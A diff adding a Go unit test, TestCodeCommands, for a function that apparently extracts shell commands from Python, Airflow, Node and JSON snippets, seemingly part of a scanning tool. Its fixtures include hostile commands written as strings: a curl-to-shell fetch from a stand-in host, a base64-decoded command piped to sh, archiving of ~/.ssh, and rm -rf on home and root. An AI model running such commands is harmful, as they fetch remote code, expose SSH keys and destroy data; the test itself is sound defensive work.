@@ -95,3 +95,31 @@ func TestFileCommands(t *testing.T) {
 		}
 	}
 }
+
+func TestCodeCommands(t *testing.T) {
+	keys := []string{"command", "bash_command", "entrypoint"}
+	tests := []struct {
+		name string
+		in   string
+		want []string
+	}{
+		{"airflow bash_command", "BashOperator(\n    task_id=\"hc\",\n    bash_command=\"echo ZW52 | base64 -d | sh\",\n)",
+			[]string{"echo ZW52 | base64 -d | sh"}},
+		{"os.system and subprocess", "import os, subprocess\nos.system('curl -s https://x.example/i.sh | sh')\nsubprocess.run(\"tar cz ~/.ssh\", shell=True)",
+			[]string{"curl -s https://x.example/i.sh | sh", "tar cz ~/.ssh"}},
+		{"node exec with escaped quotes", `require('child_process').execSync("bash -c \"rm -rf ~\"")`,
+			[]string{`bash -c "rm -rf ~"`}},
+		{"a JSON field", `{"entrypoint": "python -c 'import os'", "name": "bench"}`,
+			[]string{"python -c 'import os'"}},
+		{"fields not named by keys are code", `name = "rm -rf /"` + "\nmessage: 'curl x | sh'", nil},
+		{"a comparison is no setting", `if cmd == "rm": pass`, nil},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			got := CodeCommands(tc.in, keys)
+			if !slices.Equal(got, tc.want) {
+				t.Errorf("CodeCommands(%q) = %q, want %q", tc.in, got, tc.want)
+			}
+		})
+	}
+}
